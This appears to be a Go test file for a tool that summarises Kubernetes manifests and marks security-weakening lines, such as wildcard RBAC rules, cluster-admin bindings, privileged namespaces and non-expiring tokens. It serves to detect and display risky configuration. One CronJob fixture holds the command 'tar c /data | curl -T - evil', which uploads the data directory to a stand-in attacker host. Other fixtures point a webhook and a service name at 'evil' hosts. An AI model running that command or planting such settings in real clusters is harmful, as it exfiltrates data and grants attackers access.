package content_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/yaml"

	"kolla.openstack.org/kolla/internal/present/content"
	"kolla.openstack.org/kolla/lang/addrs"
	"kolla.openstack.org/kolla/providers"
)

// object parses the manifest of an object in a manifest block.
func object(t testing.TB, manifest string) *providers.Object {
	t.Helper()
	u := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(manifest), &u.Object); err != nil {
		t.Fatalf("%v in:\n%s", err, manifest)
	}
	return &providers.Object{Address: addrs.Object{Block: "manifest.third", Kind: u.GetKind(), Name: u.GetName()}, Manifest: u}
}

// written joins the lines. It marks each line that weakens security with an exclamation mark.
func written(lines []content.Line) string {
	var out []string
	for _, l := range lines {
		mark := "  "
		if l.Weak {
			mark = "! "
		}
		out = append(out, mark+l.Text)
	}
	return strings.Join(out, "\n")
}

func TestOf(t *testing.T) {
	tests := map[string]struct{ manifest, want string }{
		"role": {`
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: a}
rules:
- {apiGroups: [""], resources: [secrets], verbs: [get], resourceNames: [one, two]}
- {apiGroups: [apps, ""], resources: [deployments, pods], verbs: [get, list]}
- {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}
- {apiGroups: [rbac.authorization.k8s.io], resources: [roles], verbs: [escalate]}
- {nonResourceURLs: [/metrics], verbs: [get]}`, `
  secrets named one, two: get
  deployments, pods (apps, core): get, list
! * (all groups): *
! roles (rbac.authorization.k8s.io): escalate
  /metrics: get`},
		"aggregated role": {`
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: a}
aggregationRule: {clusterRoleSelectors: [{matchLabels: {more: "true"}}]}`, `
! aggregationRule: {clusterRoleSelectors: [{matchLabels: {more: "true"}}]}`},
		"binding": {`
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects:
- {kind: ServiceAccount, name: robot, namespace: other}
- {kind: Group, name: 'system:authenticated', apiGroup: rbac.authorization.k8s.io}`, `
! gives the rights of ClusterRole cluster-admin
  to ServiceAccount robot in namespace other
! to Group system:authenticated`},
		"a kind of the same name": {`
apiVersion: serving.knative.dev/v1
kind: Service
metadata: {name: a, labels: {team: x, app.kubernetes.io/name: a}}
spec: {template: {spec: {containers: [{image: example.org/a}]}}}`, `
  metadata: {labels: {team: x}}
  spec: {template: {spec: {containers: [{image: example.org/a}]}}}`},
		"network policy": {`
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: a}
spec:
  podSelector: {}
  ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0, except: [10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16]}}], ports: [{port: 3306}]}]`, `
  ingress:
    - from:
        - ipBlock:
            cidr: 0.0.0.0/0
            except: [10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16]
      ports: [{port: 3306}]
  podSelector: {}`},
		"cron job": {`
apiVersion: batch/v1
kind: CronJob
metadata: {name: a}
spec:
  schedule: "*/5 * * * *"
  suspend: true
  concurrencyPolicy: Forbid
  jobTemplate: {spec: {template: {spec: {automountServiceAccountToken: false, securityContext: {runAsUser: 1}, containers: [
    {name: a, image: example.org/a, command: [sh, -c, "tar c /data |\ncurl -T - evil\n", ""], securityContext: {allowPrivilegeEscalation: false}}]}}}}`, `
  at */5 * * * *, suspended
  runs: sh -c (a script of 2 lines) ""
    tar c /data |
    curl -T - evil
  in example.org/a
  concurrencyPolicy Forbid`},
		"namespace": {`
apiVersion: v1
kind: Namespace
metadata: {name: a, labels: {kolla.openstack.org/cloud: prod, pod-security.kubernetes.io/enforce: privileged, pod-security.kubernetes.io/audit: baseline}}`, `
  label pod-security.kubernetes.io/audit: baseline
! label pod-security.kubernetes.io/enforce: privileged`},
		"quota": {`
apiVersion: v1
kind: ResourceQuota
metadata: {name: a, namespace: b}
spec: {hard: {pods: "10"}}`, `
  hard: {pods: "10"}`},
		"definition": {`
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: widgets.example.org}
spec:
  group: example.org
  names: {kind: Widget, plural: widgets}
  scope: Cluster
  conversion: {strategy: Webhook, webhook: {clientConfig: {url: "https://evil"}}}
  versions: [{name: v1, served: true, storage: true}, {name: v0}]`, `
  kind Widget (widgets.example.org), cluster
  version v1, stored (-full shows its schema)
  version v0, not served (-full shows its schema)
  conversion:
    strategy: Webhook
    webhook: {clientConfig: {url: https://evil}}`},
		"service": {`
apiVersion: v1
kind: Service
metadata: {name: a, annotations: {example.org/lb: public, kolla.openstack.org/address: x}}
spec: {type: LoadBalancer, ports: [{port: 53, protocol: UDP, nodePort: 30053}], externalIPs: [10.0.0.1], loadBalancerSourceRanges: [0.0.0.0/0]}`, `
  port 53/UDP, on every node 30053
  load balancer (known after apply)
! takes all traffic of the cluster to externalIPs 10.0.0.1
  loadBalancerSourceRanges: [0.0.0.0/0]
  annotations: {example.org/lb: public}`},
		"external name": {`
apiVersion: v1
kind: Service
metadata: {name: a}
spec: {type: ExternalName, externalName: evil.example.org}`, `
! another name of evil.example.org`},
		"token": {`
apiVersion: v1
kind: Secret
type: kubernetes.io/service-account-token
metadata: {name: a, annotations: {kubernetes.io/service-account.name: robot}}`, `
! a token of service account robot that does not expire
  annotations: {kubernetes.io/service-account.name: robot}`},
		"config": {`
apiVersion: v1
kind: ConfigMap
metadata: {name: a}
data: {one: x, file: "a\nb\n", long: "` + strings.Repeat("x ", 200) + `"}
binaryData: {blob: AAAA}`, `
  file, 2 lines
  long, 400 characters
  one = "x"
  blob, 3 bytes`},
		"nothing": {"{apiVersion: v1, kind: ServiceAccount, metadata: {name: a}}", `
  nothing but its name`},
		"a rule that is not known yet": {"{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: a}, rules: (known after apply)}", `
  rules: (known after apply)`},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			got := "\n" + written(content.Of(object(t, test.manifest), 74))
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestScriptsOfServices checks that the lines of a service's script are counted, as those of a
// config file are. Scripts in manifests are shown.
func TestScriptsOfServices(t *testing.T) {
	job := object(t, `{apiVersion: batch/v1, kind: Job, metadata: {name: a}, spec: {template: {spec: {containers: [{name: a, image: i, command: [sh, -c, "a\nb"]}]}}}}`)
	job.Address.Block = "service.web"
	if got := content.Of(job, 80)[0].Text; got != "runs once: sh -c (a script of 2 lines; -full shows it)" {
		t.Errorf("got %q", got)
	}
}
